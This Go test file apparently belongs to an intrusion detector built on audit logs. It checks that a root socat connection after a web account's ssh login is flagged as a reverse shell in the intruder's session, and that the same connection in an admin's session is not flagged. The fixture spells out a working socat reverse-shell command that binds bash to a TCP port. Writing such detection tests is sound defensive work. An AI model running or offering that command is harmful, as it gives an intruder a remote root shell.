package detect

import (
	"testing"

	"github.com/auditchain/auditchain/parser"
)

// TestSSHSessionOfTheIntruder: the web account's ssh to a local account
// opens a login whose processes — through sudo, and a setsid -f that left
// socat under init as root — run in the intruder's channel by their audit
// session (shop-reviews). A login no intruder's ssh opened stays the
// account's own.
func TestSSHSessionOfTheIntruder(t *testing.T) {
	for _, tc := range []struct {
		name     string
		sshFirst bool // the web account's ssh connects just before the login
		want     bool
	}{
		{"after the web account's ssh", true, true},
		{"an admin's login, no ssh of the web account", false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e, s := webShellScene(t)
			e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/ssh", "ssh", "-i", "/dev/shm/.k", "deploy@127.0.0.1", "id"), s.tree)
			if tc.sshFirst {
				e.Observe(s.connect(202, 201, 33, "/usr/bin/ssh", "127.0.0.1", 22), s.tree)
			}
			// sshd's session process: the LOGIN record gives it ses 232
			e.Observe(s.next(&parser.Event{Kind: parser.KindLogin, RecordType: "LOGIN", Success: true, PID: 300, PPID: 1,
				UID: parser.NewID(0), AUID: parser.NewID(2003), SES: parser.NewID(232), Exe: "/usr/sbin/sshd"}), s.tree)
			// socat as root under init, in the session
			socat := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: 310, PPID: 1,
				UID: parser.NewID(0), EUID: parser.NewID(0), AUID: parser.NewID(2003), SES: parser.NewID(232), User: "root",
				Exe: "/usr/bin/socat", Args: []string{"socat", "exec:bash -li,pty,stderr", "tcp:127.0.0.1:4449"}, Cwd: "/home/deploy"}
			e.Observe(s.next(socat), s.tree)
			conn := s.next(&parser.Event{Kind: parser.KindConnect, Syscall: "connect", Success: true, PID: 310, PPID: 1,
				UID: parser.NewID(0), EUID: parser.NewID(0), AUID: parser.NewID(2003), SES: parser.NewID(232),
				Exe: "/usr/bin/socat", Peer: parser.Addr{Family: "inet", IP: "127.0.0.1", Port: 4449}})
			fs := e.Observe(conn, s.tree)
			f := findingOf(fs, "web-reverse-shell-connect")
			switch {
			case tc.want && (f == nil || f.Stage != StageCommandAndControl):
				t.Fatalf("socat's connect in the intruder's session: %v, want a reverse-shell connect on stage 7", f)
			case !tc.want && f != nil:
				t.Fatalf("socat's connect in an admin's session: %s fired", f.Title)
			}
		})
	}
}
